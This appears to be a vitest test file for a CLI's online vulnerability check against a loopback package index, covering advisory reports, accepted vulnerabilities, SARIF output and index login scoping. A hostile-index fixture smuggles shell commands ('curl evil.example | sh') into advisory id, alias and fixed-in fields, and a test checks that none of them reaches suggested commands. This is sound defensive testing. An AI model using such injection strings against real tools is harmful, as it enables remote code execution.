/** `check --online` and `doctor --online` ask the index of the user's configuration, here one on loopback, for known vulnerabilities. */
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cli, folder } from '../support/cli.ts';
import { type PackageIndex, packageIndex, type Release } from '../support/package-index.ts';

const ADVISORY = {
  id: 'GHSA-aaaa-bbbb-cccc',
  aliases: ['CVE-2026-1234'],
  severity: 'HIGH',
  fixed_in: ['2.0.1', '2.1'],
  summary: 'reads any file',
  withdrawn: null,
};
const RELEASES: Release[] = [
  { name: 'fastapi', version: '1.0', vulnerabilities: [] },
  { name: 'unsafe', version: '2.0', vulnerabilities: [ADVISORY] },
  { name: 'withdrawn', version: '3.0', vulnerabilities: [{ ...ADVISORY, withdrawn: '2026-01-01T00:00:00Z' }] },
  {
    name: 'without-fix',
    version: '4.0',
    vulnerabilities: [{ id: 'PYSEC-2026-1', aliases: [], fixed_in: [], details: 'first line\nsecond line' }],
  },
];
/** What a hostile index puts where ids and releases belong, and more than anybody reads. */
const HOSTILE = {
  ...ADVISORY,
  aliases: ['CVE-1"}; curl evil.example | sh #'],
  fixed_in: ['9; curl evil.example | sh', '2.1'],
};
const ENDLESS = Array.from({ length: 20_000 }, (_, at) => ({
  ...ADVISORY,
  id: `CVE-2026-${at}`,
  summary: 'x'.repeat(20),
}));
RELEASES.push(
  { name: 'hostile', version: '1.0', vulnerabilities: [HOSTILE] },
  { name: 'hostile-id', version: '1.0', vulnerabilities: [{ ...ADVISORY, id: '"}; curl evil.example | sh #' }] },
  { name: 'endless', version: '1.0', vulnerabilities: ENDLESS },
);
const HASH = `--hash=sha256:${'0'.repeat(64)}`;

let root: { path: string; remove: () => Promise<void> };
let index: PackageIndex;
beforeAll(async () => {
  [root, index] = await Promise.all([folder(), packageIndex(RELEASES)]);
});
afterAll(() => Promise.all([root.remove(), index.close()]));

let count = 0;
async function writeProject(pins: readonly string[], spec: object = {}, list = 'fastapi\n'): Promise<string> {
  const dir = join(root.path, `p${++count}`);
  await mkdir(dir);
  const lock = pins.map((pin) => `${pin} ${HASH}\n`).join('');
  const files = {
    'app.py': 'from fastapi import FastAPI\napp = FastAPI()\n',
    'requirements.in': list,
    'requirements.txt': lock,
    'ml-container.json': JSON.stringify(spec),
  };
  for (const [name, text] of Object.entries(files)) await writeFile(join(dir, name), text);
  return dir;
}

interface Found {
  rule: string;
  path: string;
  line: number;
  what: string;
  fix: string;
}
async function check(dir: string, args: string[] = [], env: Record<string, string> = {}): Promise<Found[]> {
  const options = { cwd: dir, env: { UV_DEFAULT_INDEX: index.url, SOURCE_DATE_EPOCH: '1796083200', ...env } };
  const ran = await cli(['check', '--online', '--offline', '--json', ...args], options);
  const { findings } = JSON.parse(ran.stdout) as { findings: Found[] };
  return findings.filter(({ rule }) => rule.startsWith('vulnerab') || rule.startsWith('vulnerable'));
}

describe('check --online', () => {
  it('reports the advisory, its other names, severity and fixed releases, with the command that moves it', async () => {
    const dir = await writeProject(['fastapi==1.0', 'unsafe==2.0', 'withdrawn==3.0']);
    expect(await check(dir)).toMatchObject([
      {
        rule: 'vulnerable-package',
        path: 'requirements.txt',
        line: 2,
        what: 'unsafe 2.0 has GHSA-aaaa-bbbb-cccc, CVE-2026-1234 (severity HIGH; fixed in 2.0.1, 2.1): reads any file',
        fix: 'npx create-ml-container lock --upgrade-package unsafe',
      },
    ]);
  });

  it('names the pin to raise where the requirements hold the release', async () => {
    const dir = await writeProject(['unsafe==2.0'], {}, 'fastapi\nunsafe==2.0\n');
    const [found] = await check(dir);
    expect(found?.fix).toBe('raise unsafe in requirements.in to 2.0.1 or 2.1, then npx create-ml-container lock');
  });

  it('says where no release fixes it, and how it is accepted', async () => {
    const [found] = await check(await writeProject(['without-fix==4.0']));
    expect(found?.what).toContain('PYSEC-2026-1 (no release fixes it): first line');
    expect(found?.fix).toContain('"acceptedVulnerabilities": {"PYSEC-2026-1": "YYYY-MM-DD: REASON"}');
  });

  it.each([
    ['CVE-2026-1234', '2026-12-31', 0],
    ['GHSA-aaaa-bbbb-cccc', '2026-12-31', 0],
    ['CVE-2026-1234', '2026-11-01', 1],
    ['CVE-2026-9999', '2026-12-31', 1],
  ])('with %s accepted until %s reports %i', async (id, day, reported) => {
    const dir = await writeProject(['unsafe==2.0'], { acceptedVulnerabilities: { [id]: `${day}: never called` } });
    const found = await check(dir);
    expect(found).toHaveLength(reported);
    if (id === 'CVE-2026-1234' && reported === 1) expect(found[0]?.what).toContain(`accepted until ${day}`);
  });

  it('has no text of the index in a command but releases', async () => {
    const found = await check(await writeProject(['hostile==1.0', 'hostile-id==1.0'], {}, 'fastapi\nhostile==1.0\n'));
    expect(JSON.stringify(found)).not.toContain('curl');
    expect(found.map(({ rule }) => rule).sort()).toEqual(['vulnerabilities-unknown', 'vulnerable-package']);
    expect(found.find(({ rule }) => rule === 'vulnerable-package')?.fix).toMatch(
      /^raise hostile in requirements.in to 2.1, /,
    );
  });

  it('reports a bounded number of advisories of a release', async () => {
    expect((await check(await writeProject(['endless==1.0']))).length).toBeLessThanOrEqual(200);
  });

  it('reports in a note that the index has no such JSON', async () => {
    const dir = await writeProject(['other==1.0', 'another==1.0']);
    expect(await check(dir)).toMatchObject([
      {
        rule: 'vulnerabilities-unknown',
        what: 'no data on vulnerabilities of another, other: the index has no JSON of this release',
      },
    ]);
  });

  it('reports that the index does not answer, and waits once', async () => {
    const dir = await writeProject(['other==1.0']);
    const [found] = await check(dir, [], { UV_DEFAULT_INDEX: 'http://127.0.0.1:1/simple' });
    expect(found?.what).toMatch(/no data on vulnerabilities of other: the index does not answer/);
  });

  it('asks the index of the project, and no other about packages of a private one', async () => {
    const other = await packageIndex([{ name: 'internal', version: '1.0' }]);
    const dir = await writeProject(['internal==1.0', 'unsafe==2.0'], { indexes: { private: { acme: other.url } } });
    const asked = index.asked.length;
    const found = await check(dir);
    await other.close();
    expect(found.map(({ rule }) => rule).sort()).toEqual(['vulnerabilities-unknown', 'vulnerable-package']);
    expect(index.asked.slice(asked).join()).not.toContain('internal');
  });

  it('sends the login of netrc to an index of the project that the user named in an earlier run, and to no other', async () => {
    const own = await packageIndex(RELEASES, 'robot:open-sesame');
    const config = join(root.path, 'config');
    await mkdir(join(config, 'create-ml-container'), { recursive: true });
    await writeFile(join(config, 'netrc'), 'machine 127.0.0.1 login robot password open-sesame\n');
    const dir = await writeProject(['unsafe==2.0'], { indexes: { default: own.url } });
    const env = { NETRC: join(config, 'netrc'), XDG_CONFIG_HOME: config, UV_DEFAULT_INDEX: '' };
    const unknown = (await check(dir, [], env)).find(({ rule }) => rule === 'vulnerabilities-unknown');
    expect(unknown?.what).toContain('401');
    await writeFile(join(config, 'create-ml-container/index-logins.json'), JSON.stringify([new URL(own.url).origin]));
    expect((await check(dir, [], env)).map(({ rule }) => rule)).toContain('vulnerable-package');
    await own.close();
  });

  it('has it in SARIF', async () => {
    const dir = await writeProject(['unsafe==2.0']);
    const env = { UV_DEFAULT_INDEX: index.url };
    const ran = await cli(['check', '--online', '--offline', '--format', 'sarif'], { cwd: dir, env });
    const { results } = JSON.parse(ran.stdout).runs[0];
    const own = results.find(({ ruleId }: { ruleId: string }) => ruleId === 'vulnerable-package');
    expect(own.message.text).toContain('CVE-2026-1234');
    expect(own.locations[0].physicalLocation).toMatchObject({
      artifactLocation: { uri: 'requirements.txt' },
      region: { startLine: 1 },
    });
  });

  it('asks nothing without --online', async () => {
    const dir = await writeProject(['unsafe==2.0']);
    const asked = index.asked.length;
    await cli(['check', '--json'], { cwd: dir, env: { UV_DEFAULT_INDEX: index.url } });
    expect(index.asked.length).toBe(asked);
  });
});

describe('doctor --online', () => {
  it('warns of locked packages with a known vulnerability', async () => {
    const dir = await writeProject(['unsafe==2.0']);
    const ran = await cli(['doctor', '--online', '--json'], { cwd: dir, env: { UV_DEFAULT_INDEX: index.url } });
    const { checks } = JSON.parse(ran.stdout) as { checks: { id: string; verdict: string; found: string }[] };
    const own = checks.find(({ id }) => id === 'vulnerabilities');
    expect(own).toMatchObject({ verdict: 'warning' });
    expect(own?.found).toContain('CVE-2026-1234');
  });

  it('does not ask by itself', async () => {
    const ran = await cli(['doctor', '--json'], { cwd: await writeProject(['unsafe==2.0']) });
    const { checks } = JSON.parse(ran.stdout) as { checks: { id: string; verdict: string }[] };
    expect(checks.find(({ id }) => id === 'vulnerabilities')?.verdict).toBe('skipped');
  });
});
